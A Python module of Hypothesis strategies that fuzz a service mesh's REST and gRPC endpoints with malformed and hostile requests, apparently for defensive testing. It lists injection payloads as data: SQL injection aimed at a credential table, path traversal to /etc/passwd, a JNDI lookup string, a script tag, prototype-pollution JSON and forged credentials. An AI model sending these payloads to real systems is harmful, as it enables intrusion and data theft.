"""Hypothesis strategies for hostile and broken input to the mesh (used by `test_hostile_input.py`).

Everything is derived from the descriptors, so a new RPC, field or HTTP binding is covered without an edit here.
Each request is mostly plausible (real ids, a valid key, JSON of the right shape) with one or two hostile parts,
so that it gets past the door and reaches the services' own validation, where hostile values do the most harm:

* `Hostile.rest_cases(bindings)`: one HTTP request to the REST door: a binding of `load_bindings()`, its path
  variables filled with real ids or hostile text, query parameters naming real (possibly nested) fields, unknown
  or misspelt ones, a body that is a JSON document shaped like the request message but with values of the wrong
  type, unknown fields, unicode edge cases, injection strings, out-of-range numbers and enum values, or a
  document that is not the message at all (another JSON type, malformed JSON, invalid UTF-8, lone surrogates,
  NaN, a BOM, nesting 100,000 deep, a string of megabytes), and hostile headers (credentials, content types,
  request ids, deadlines, trace contexts).
* `Hostile.grpc_requests(descriptor)`: the serialized request of one gRPC method: a message with fields filled
  with random values of their types (full integer ranges, NaN and infinities, enum numbers no enum names,
  timestamps outside 0001-9999 and nanos outside their range, oneofs set twice, repeated fields of hundreds of
  elements), a valid message cut short or with garbage after it, or random bytes.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any, cast
from urllib.parse import quote

from google.protobuf.descriptor import Descriptor, FieldDescriptor
from google.protobuf.message import Message
from hypothesis import strategies as st

from gateway.http_rules import Binding, Variable
from gateway.transcode import INT_RANGES, message_class

# -- text ----------------------------------------------------------------------------------------------------


def full_width(text: str) -> str:
    """ASCII letters and digits as their full-width forms (U+FF01..U+FF5E), which IMEs type for CJK users."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


UNICODE_EDGES: tuple[str, ...] = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\u202e",  # RIGHT-TO-LEFT OVERRIDE
    "\u200f\u200e",  # RTL and LTR marks
    "\u202b\u0623\u0647\u0644\u0627\u202c",  # Arabic between RTL embedding marks
    "\ufeff",  # a BOM inside a value
    "\ufffd",
    "\u200b",  # zero-width space
    "😀",
    "👩\u200d👩\u200d👧",
    full_width("123456"),
    full_width("320102"),  # a county code in full-width digits
    full_width("91320102257WTT7079"),  # a credit code in full-width characters
    "e\u0301",
    "\U0010ffff",
    "\u2028\u2029",
    "\r\n",
    "\t",
    "南京市玄武区",
)
INJECTIONS: tuple[str, ...] = (
    "' OR '1'='1",
    "'; DROP TABLE participant; --",
    '" OR 1=1 --',
    "%",
    "_",
    "32%",
    "3201_",
    "%' --",
    "\\",
    "1; SELECT sqlite_version()",
    "' UNION SELECT key_hash FROM credential --",
    "32' OR division_code LIKE '%",
    '{"$gt": ""}',
    "{'$ne': null}",
    "$where",
    "../../etc/passwd",
    "%2e%2e%2f",
    "${jndi:ldap://example.invalid/a}",
    "<script>alert(1)</script>",
    "\x1b[31m",
    "null",
    "true",
    "0",
    "-1",
    "1e309",
    "NaN",
    "Infinity",
    "9" * 40,
    "0x10",
)
HOSTILE_STRINGS: tuple[str, ...] = (*UNICODE_EDGES, *INJECTIONS)
# Values of the shape services expect, so that some requests get past validation.
PLAUSIBLE_STRINGS: tuple[str, ...] = (
    "32",
    "3201",
    "320102",
    "440305",
    "91320102257WTT7079",
    "SN00000001",
    "TDR-48V20AH",
    "ACTIVE",
    "label",
    "2026-05-01T08:00:00+08:00",
)


@st.composite
def mostly(draw: st.DrawFn, usual: st.SearchStrategy[Any], unusual: st.SearchStrategy[Any], one_in: int = 4) -> Any:
    """`usual`, and one time in `one_in` `unusual` (a failure shrinks towards `usual`)."""
    return draw(unusual if draw(st.integers(0, one_in - 1)) == one_in - 1 else usual)


# Text that protobuf strings can hold (valid Unicode: no lone surrogates), up to tens of kilobytes.
hostile_text: st.SearchStrategy[str] = st.one_of(
    st.sampled_from(HOSTILE_STRINGS),
    st.sampled_from(HOSTILE_STRINGS).map(lambda s: (s or "x") * 700),
    st.text(max_size=20),
    st.text(st.characters(min_codepoint=0x80), max_size=8),
)
# Text for URLs (path variables, query parameters): short enough for any URL.
url_text: st.SearchStrategy[str] = st.one_of(
    st.sampled_from(HOSTILE_STRINGS), st.text(max_size=20), st.text(st.characters(min_codepoint=0x80), max_size=8)
)
# Half a surrogate pair: JSON can write it (`"\ud800"`), Unicode has no such character.
lone_surrogates: st.SearchStrategy[str] = st.text(st.characters(categories=["Cs"]), min_size=1, max_size=2).map(
    lambda s: "a" + s
)
json_text: st.SearchStrategy[str] = mostly(hostile_text, lone_surrogates, 8)

JSON_SCALARS: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**80), max_value=2**80),
    st.floats(allow_nan=False, allow_infinity=False),
    json_text,
)
JSON_VALUES: st.SearchStrategy[Any] = st.recursive(
    JSON_SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(json_text, inner, max_size=3),
    max_leaves=8,
)

# -- field values ------------------------------------------------------------------------------------------------

TIMESTAMP_TEXTS: tuple[str, ...] = (
    "2026-05-01T08:00:00+08:00",
    "2026-05-01T00:00:00Z",
    "2025-01-01T00:00:00Z",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999999999Z",
    "1970-01-01T00:00:00Z",
    "2026-02-30T00:00:00Z",
    "2026-05-01",
    "2026-05-01T08:00:00",
    "10000-01-01T00:00:00Z",
    "2026-05-01T08:00:00.1234567891Z",
    "-0001-01-01T00:00:00Z",
    "yesterday",
)
DURATION_TEXTS: tuple[str, ...] = ("1.5s", "0s", "-1s", "3600s", "315576000000s", "315576000001s", "1h", "s", "1e9s")
# Seconds of google.protobuf.Timestamp: 0001-01-01 and 9999-12-31 are the ends of its valid range.
MIN_TIMESTAMP, MAX_TIMESTAMP = -62_135_596_800, 253_402_300_799


def is_map(item: FieldDescriptor) -> bool:
    return item.message_type is not None and bool(item.message_type.GetOptions().map_entry)


def sizes() -> st.SearchStrategy[int]:
    """How many elements a repeated field gets: mostly a few, sometimes hundreds."""
    return mostly(st.integers(0, 3), st.integers(100, 400), 6)


def enum_numbers(item: FieldDescriptor) -> st.SearchStrategy[int]:
    enum = item.enum_type
    assert enum is not None
    known = [value.number for value in enum.values]
    # Proto3 enums are open: any int32 is a valid wire value, including numbers the enum does not name.
    return mostly(st.sampled_from(known), st.integers(-(2**31), 2**31 - 1) | st.sampled_from([-1, 2**31 - 1]))


def float_values(kind: int) -> st.SearchStrategy[float]:
    unusual = st.floats(width=32 if kind == FieldDescriptor.TYPE_FLOAT else 64)
    return mostly(st.floats(-1e6, 1e6, allow_nan=False), unusual)


def int_values(kind: int) -> st.SearchStrategy[int]:
    low, high = INT_RANGES[kind]
    edges = [value for value in (low, high, -1, 0, 1) if low <= value <= high]
    return mostly(st.integers(max(low, -1000), min(high, 100_000)), st.integers(low, high) | st.sampled_from(edges))


@dataclass(frozen=True)
class Hostile:
    """Strategies that know some real ids (so that path variables and id fields sometimes name real records)
    and API keys (so that most requests are admitted)."""

    ids: tuple[str, ...] = ()
    keys: tuple[str, ...] = ()

    # -- text --

    def text(self) -> st.SearchStrategy[str]:
        usual = st.sampled_from(self.ids + PLAUSIBLE_STRINGS) if self.ids else st.sampled_from(PLAUSIBLE_STRINGS)
        return mostly(usual, hostile_text, 2)

    def short_text(self) -> st.SearchStrategy[str]:
        usual = st.sampled_from(self.ids + PLAUSIBLE_STRINGS) if self.ids else st.sampled_from(PLAUSIBLE_STRINGS)
        return mostly(usual, url_text, 2)

    # -- JSON shaped like a message --

    def typed_json(self, item: FieldDescriptor, depth: int) -> st.SearchStrategy[Any]:
        """A JSON value for one (singular) field: of its type, with hostile contents now and then."""
        kind = item.type
        message_type = item.message_type
        if message_type is not None:
            name = message_type.full_name
            if name == "google.protobuf.Timestamp":
                return mostly(st.sampled_from(TIMESTAMP_TEXTS), json_text)
            if name == "google.protobuf.Duration":
                return mostly(st.sampled_from(DURATION_TEXTS), json_text)
            if name == "google.protobuf.FieldMask":
                names = [f.json_name for f in message_type.fields] or ["paths"]
                return st.lists(st.sampled_from([*names, "no_such_field", "a.b.c", ""]), max_size=3).map(",".join)
            if name.startswith("google.protobuf.") and name.endswith("Value"):
                return self.typed_json(message_type.fields_by_name["value"], depth)
            if depth >= 3:
                return st.just({})
            return self.message_json(message_type, depth + 1)
        if kind == FieldDescriptor.TYPE_STRING:
            return mostly(self.text(), lone_surrogates, 10)
        if kind == FieldDescriptor.TYPE_BYTES:
            return mostly(st.binary(max_size=40).map(lambda b: base64.b64encode(b).decode("ascii")), json_text)
        if kind == FieldDescriptor.TYPE_BOOL:
            return mostly(st.booleans(), st.sampled_from(["true", "1", 1, 0, "yes"]))
        if kind == FieldDescriptor.TYPE_ENUM:
            enum = item.enum_type
            assert enum is not None
            names = [value.name for value in enum.values]
            unusual = st.one_of(
                st.sampled_from(names).map(str.lower),
                enum_numbers(item),
                st.sampled_from([2**31, -(2**31) - 1, "", "UNSPECIFIED", 1.5]),
            )
            return mostly(st.sampled_from(names), unusual)
        if kind in (FieldDescriptor.TYPE_DOUBLE, FieldDescriptor.TYPE_FLOAT):
            special = st.sampled_from(["NaN", "Infinity", "-Infinity", "1e400", "-0", 1e308, -1e308, 3.5e38])
            return mostly(st.floats(-1e6, 1e6, allow_nan=False), st.floats(allow_nan=False) | special)
        low, high = INT_RANGES[kind]
        unusual = st.one_of(
            st.integers(low, high).map(str),
            st.sampled_from([low - 1, high + 1, 2**70, "1.5", "1e3", "0x10", 1.5, full_width("12"), " 1"]),
        )
        return mostly(int_values(kind), unusual)

    @st.composite
    def field_json(draw: st.DrawFn, self: Hostile, item: FieldDescriptor, depth: int) -> Any:  # noqa: N805
        """The JSON of one field: of its type (a list for repeated, an object for a map), now and then any JSON."""
        if draw(st.integers(0, 11)) == 11:
            return draw(JSON_VALUES)
        if is_map(item):
            entry = item.message_type
            assert entry is not None
            value = self.typed_json(entry.fields_by_name["value"], depth + 1)
            return draw(st.dictionaries(self.text(), value, max_size=3))
        if item.is_repeated:
            size = draw(sizes())
            element = self.typed_json(item, depth + 1)
            if size > 3:  # hundreds of the same element: cheap to make, as big on the wire
                return [draw(element)] * size
            return [draw(element) for _ in range(size)]
        return draw(self.typed_json(item, depth))

    @st.composite
    def message_json(draw: st.DrawFn, self: Hostile, descriptor: Descriptor, depth: int = 0) -> dict[str, Any]:  # noqa: N805
        """A JSON object for `descriptor`: some of its fields (by JSON or proto name), now and then a field the
        message does not have."""
        document: dict[str, Any] = {}
        fields = list(descriptor.fields)
        if fields:
            chosen = draw(st.lists(st.sampled_from(fields), unique_by=lambda f: f.number, max_size=min(8, len(fields))))
            for item in chosen:
                key = draw(mostly(st.just(item.json_name), st.just(item.name)))
                document[key] = draw(self.field_json(item, depth))
        if draw(st.integers(0, 11)) == 11:
            document[draw(json_text)] = draw(JSON_VALUES)
        return document

    # -- REST --

    @st.composite
    def rest_cases(draw: st.DrawFn, self: Hostile, bindings: Sequence[Binding]) -> RestCase:  # noqa: N805
        """One HTTP request to the REST door (see the module docstring)."""
        binding = draw(st.sampled_from(bindings))
        url = draw(self.path_of(binding))
        if binding.body != "*" or draw(st.integers(0, 7)) == 7:
            query = draw(self.query_of(binding))
            if query:
                url = f"{url}?{query}"
        headers: dict[str, str] = {}
        if self.keys:
            valid = st.sampled_from(self.keys).map(lambda key: f"Bearer {key}")
            credential = draw(mostly(valid, st.sampled_from(BAD_CREDENTIALS) | st.none(), 6))
        else:
            credential = draw(st.sampled_from(BAD_CREDENTIALS) | st.none())
        if credential is not None:
            headers["authorization"] = credential
        elif draw(st.booleans()):
            headers["x-api-key"] = draw(ascii_header_text)
        content: bytes | None = None
        if binding.body or draw(st.integers(0, 9)) == 9:
            content = draw(self.body_of(binding))
            content_type = draw(mostly(st.just("application/json"), st.sampled_from(CONTENT_TYPES), 6))
            if content_type is not None:
                headers["content-type"] = content_type
        for name, values in (("x-request-id", REQUEST_IDS), ("grpc-timeout", GRPC_TIMEOUTS), ("traceparent", TRACES)):
            value = draw(mostly(st.none(), st.sampled_from(values), 8))
            if value is not None:
                headers[name] = value
        return RestCase(binding, url, {name: value.strip() for name, value in headers.items()}, content)

    @st.composite
    def path_of(draw: st.DrawFn, self: Hostile, binding: Binding) -> str:  # noqa: N805
        parts: list[str] = []
        for segment in binding.template.segments:
            if not isinstance(segment, Variable):
                parts.append(segment)
                continue
            values: list[str] = []
            for pattern in segment.pattern:
                if pattern in ("*", "**"):
                    text = draw(self.short_text())
                    # Percent-encoded, or now and then as it is (a "/" or "?" then changes the route or the query).
                    values.append(draw(mostly(st.just(quote_all(text)), st.just(quote(text, safe="/%:?")), 8)))
                else:
                    values.append(pattern)
            parts.append("/".join(values))
        path = "/" + "/".join(parts)
        return path + (f":{binding.template.verb}" if binding.template.verb else "")

    @st.composite
    def query_of(draw: st.DrawFn, self: Hostile, binding: Binding) -> str:  # noqa: N805
        if draw(st.integers(0, 11)) == 11:
            return draw(st.sampled_from(RAW_QUERIES))
        named = query_fields(binding.method.input_type)
        pairs: list[tuple[str, str]] = []
        for _ in range(draw(st.integers(0, 4))):
            if named and draw(st.integers(0, 7)) < 7:
                name, item = draw(st.sampled_from(named))
                repeats = draw(st.integers(1, 3)) if item.is_repeated else 1
                pairs.extend((name, draw(self.query_text(item))) for _ in range(repeats))
            else:
                pairs.append((draw(url_text), draw(url_text)))
        return "&".join(f"{quote_all(name)}={quote_all(value)}" for name, value in pairs)

    def query_text(self, item: FieldDescriptor) -> st.SearchStrategy[str]:
        """A query parameter's value for a field: its type written as text, now and then hostile text."""
        if item.type == FieldDescriptor.TYPE_STRING:
            return self.short_text()
        typed = self.typed_json(item, 3).map(lambda v: (v if isinstance(v, str) else json.dumps(v))[:2000])
        return mostly(typed, url_text)

    @st.composite
    def body_of(draw: st.DrawFn, self: Hostile, binding: Binding) -> bytes:  # noqa: N805
        choice = draw(st.integers(0, 19))
        if choice == 19:
            return draw(st.sampled_from(RAW_BODIES))
        if choice == 18:
            return draw(deep_bodies())
        if choice == 17:
            return encode_json(draw(JSON_VALUES), draw(st.booleans()))
        if choice == 16:  # a string of megabytes (under the 4 MiB REST limit)
            size = draw(st.integers(100_000, 3_000_000))
            name = draw(st.sampled_from([f.json_name for f in body_type(binding).fields] or ["x"]))
            return b'{"' + name.encode() + b'": "' + b"x" * size + b'"}'
        document = draw(self.message_json(body_type(binding)))
        return encode_json(document, draw(st.booleans()))

    # -- gRPC --

    @st.composite
    def grpc_requests(draw: st.DrawFn, self: Hostile, descriptor: Descriptor) -> bytes:  # noqa: N805
        """The wire bytes of one request: a random message of `descriptor` (mostly), or random bytes."""
        choice = draw(st.integers(0, 9))
        if choice == 9:
            return draw(st.binary(max_size=200))
        if choice == 8:  # a valid message cut short, or with garbage after it
            wire = draw(self.random_message(descriptor)).SerializeToString()
            cut = draw(st.integers(0, len(wire)))
            return wire[:cut] + draw(st.binary(max_size=8))
        return draw(self.random_message(descriptor)).SerializeToString()

    @st.composite
    def random_message(draw: st.DrawFn, self: Hostile, descriptor: Descriptor) -> Message:  # noqa: N805
        message = message_class(descriptor)()
        self.fill_message(draw, message, 0)
        return message

    def fill_message(self, draw: st.DrawFn, message: Message, depth: int) -> None:
        """Set some of `message`'s fields (all of them at most) to random values of their types."""
        descriptor = cast(Descriptor, message.DESCRIPTOR)
        if descriptor.full_name in ("google.protobuf.Timestamp", "google.protobuf.Duration"):
            self._set_seconds(draw, message)
            return
        fields: list[FieldDescriptor] = list(descriptor.fields)
        if not fields:
            return
        chosen = draw(st.lists(st.sampled_from(fields), unique_by=lambda f: f.number, max_size=len(fields)))
        for item in chosen:
            self._fill_field(draw, message, item, depth)

    def scalar(self, item: FieldDescriptor) -> st.SearchStrategy[Any]:
        kind = item.type
        if kind == FieldDescriptor.TYPE_STRING:
            return self.text()
        if kind == FieldDescriptor.TYPE_BYTES:
            return st.binary(max_size=64)
        if kind == FieldDescriptor.TYPE_BOOL:
            return st.booleans()
        if kind == FieldDescriptor.TYPE_ENUM:
            return enum_numbers(item)
        if kind in (FieldDescriptor.TYPE_FLOAT, FieldDescriptor.TYPE_DOUBLE):
            return float_values(kind)
        return int_values(kind)

    @staticmethod
    def _set_seconds(draw: st.DrawFn, stamp: Message) -> None:
        usual = st.integers(1_700_000_000, 1_900_000_000)
        unusual = st.one_of(
            st.integers(MIN_TIMESTAMP, MAX_TIMESTAMP),
            st.integers(-(2**63), 2**63 - 1),
            st.sampled_from([-(2**63), 2**63 - 1, MIN_TIMESTAMP - 1, MAX_TIMESTAMP + 1]),
        )
        seconds = draw(mostly(usual, unusual))
        nanos = draw(mostly(st.integers(0, 999_999_999), st.integers(-(2**31), 2**31 - 1)))
        setattr(stamp, "seconds", seconds)  # noqa: B010 (a Timestamp or Duration through the generic API)
        setattr(stamp, "nanos", nanos)  # noqa: B010

    def _fill_field(self, draw: st.DrawFn, message: Message, item: FieldDescriptor, depth: int) -> None:
        message_type = item.message_type
        if is_map(item):
            assert message_type is not None
            key_type, value_type = message_type.fields_by_name["key"], message_type.fields_by_name["value"]
            entries: Any = getattr(message, item.name)
            for _ in range(draw(st.integers(0, 3))):
                key = draw(self.scalar(key_type))
                if value_type.message_type is not None:
                    self.fill_message(draw, entries[key], depth + 1)
                else:
                    entries[key] = draw(self.scalar(value_type))
            return
        if item.is_repeated:
            container: Any = getattr(message, item.name)
            size = draw(sizes()) if depth < 2 else draw(st.integers(0, 2))
            if message_type is None:
                if size > 3:
                    container.extend([draw(self.scalar(item))] * size)
                else:
                    container.extend(draw(self.scalar(item)) for _ in range(size))
                return
            for index in range(size):
                if index == 0 or size <= 3:
                    element = message_class(message_type)()
                    if depth < 3:
                        self.fill_message(draw, element, depth + 1)
                container.append(element)  # beyond 3: hundreds of copies of the first
            return
        if message_type is not None:
            target = getattr(message, item.name)
            target.SetInParent()
            if depth < 3:
                self.fill_message(draw, target, depth + 1)
            return
        setattr(message, item.name, draw(self.scalar(item)))


# -- raw bodies and URLs -----------------------------------------------------------------------------------------

RAW_BODIES: tuple[bytes, ...] = (
    b"",
    b" \n",
    b"{",
    b'{"a":',
    b"nul",
    b"NaN",
    b'{"x": NaN}',
    b"[1,2",
    b"\xff\xfe\x00{",
    b"\xef\xbb\xbf{}",  # a UTF-8 BOM
    b"{}{}",
    b'{"a":1}{"b":2}',
    b"\x00",
    b'{"__proto__": {"admin": true}}',
    b'"\\ud800"',
    b'{"\\ud800": 1}',
    b'{"a": "\\udfff\\ud800"}',
    b"\xc3\x28",  # invalid UTF-8
    b"\xed\xa0\x80",  # a surrogate encoded in UTF-8 (CESU-8): invalid UTF-8
    b"<xml/>",
    b"a=1&b=2",
    b"1" * 5000,
    b"-" + b"9" * 5000,  # an integer of 5,000 digits (Python's int() stops at 4,300)
    b"[" + b"1e999999," * 100 + b"1]",
)


def deep_json(depth: int, kind: str) -> bytes:
    """`depth` levels of nested arrays or objects (unclosed, or inside a field)."""
    if kind == "array":
        return b"[" * depth + b"]" * depth
    if kind == "object":
        return b'{"a":' * depth + b"1" + b"}" * depth
    if kind == "unclosed":
        return b"[" * depth
    return b'{"x": ' + b"[" * depth + b"]" * depth + b"}"


def deep_bodies() -> st.SearchStrategy[bytes]:
    depths = st.one_of(st.integers(90, 110), st.integers(900, 1100), st.just(10_000), st.just(100_000))
    return st.builds(deep_json, depths, st.sampled_from(["array", "object", "unclosed", "field"]))


def encode_json(document: Any, ascii_only: bool) -> bytes:
    """JSON text of `document`; a lone surrogate is written as an escape, or (not ASCII) as CESU-8 bytes."""
    return json.dumps(document, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")


def body_type(binding: Binding) -> Descriptor:
    body_field = binding.body_field()
    if body_field is not None and body_field.message_type is not None:
        return body_field.message_type
    return binding.method.input_type


def quote_all(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def query_fields(descriptor: Descriptor, prefix: str = "", depth: int = 0) -> list[tuple[str, FieldDescriptor]]:
    """Every field a query parameter may name (nested singular messages by dotted paths), by JSON and proto name."""
    found: list[tuple[str, FieldDescriptor]] = []
    for item in descriptor.fields:
        message_type = item.message_type
        nested = (
            message_type is not None
            and not item.is_repeated
            and not message_type.full_name.startswith("google.protobuf.")
            and depth < 2
        )
        for name in sorted({item.json_name, item.name}):
            path = f"{prefix}{name}"
            if nested:
                assert message_type is not None
                found.extend(query_fields(message_type, f"{path}.", depth + 1))
            else:
                found.append((path, item))
    return found


RAW_QUERIES: tuple[str, ...] = (
    "%",
    "%ZZ=1",
    "pageSize=%ED%A0%80",
    "divisionPrefix=%00%27",
    "&&&==",
    "a[]=1",
    "pageToken=%FF%FE",
    "pageSize=1&pageSize=2",
    "page_size=1&pageSize=2",
    "=1",
    "pageSize",
    "pageSize=" + "9" * 5000,
)
CONTENT_TYPES: tuple[str | None, ...] = (
    None,
    "application/json; charset=utf-8",
    "application/json; charset=latin-1",
    "application/merge-patch+json",
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x",
    "",
    "application/json; charset=",
)
BAD_CREDENTIALS: tuple[str, ...] = (
    "Bearer",
    "Bearer gmk_00000000000000000000000000.secret",
    "Bearer gmk_x.y",
    "Bearer ' OR '1'='1",
    "Bearer gmk_' OR 1=1 --.x",
    "Basic dXNlcjpwYXNz",
    "Bearer " + "A" * 4000,
    "Bearer a.b.c.d",
    "Bearer ..",
    "bearer\tgmk_x.y",
)
REQUEST_IDS: tuple[str, ...] = ("req-1", "x" * 200, "a b", "'; DROP TABLE x; --", "a\tb")
GRPC_TIMEOUTS: tuple[str, ...] = ("30S", "abc", "-1S", "1.5S", "999999999S", "S", "20000m")
TRACES: tuple[str, ...] = ("00-zz-yy-01", "00-" + "0" * 32 + "-" + "0" * 16 + "-01", "ff-" + "a" * 32 + "-" + "b" * 16)
# Header values an HTTP/1.1 client can send (h11 refuses control characters and surrounding whitespace).
ascii_header_text = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=40).map(str.strip)


class RestCase:
    """One HTTP request (a plain class: its repr, which hypothesis prints for a failure, is kept short)."""

    def __init__(self, binding: Binding, url: str, headers: dict[str, str], content: bytes | None) -> None:
        self.binding = binding
        self.method = binding.http_method
        self.url = url
        self.headers = headers
        self.content = content

    def __repr__(self) -> str:
        shown = self.content if self.content is None or len(self.content) < 300 else self.content[:300] + b"..."
        url = self.url if len(self.url) < 300 else self.url[:300] + "..."
        return f"{self.method} {url} headers={self.headers} body={shown!r}"
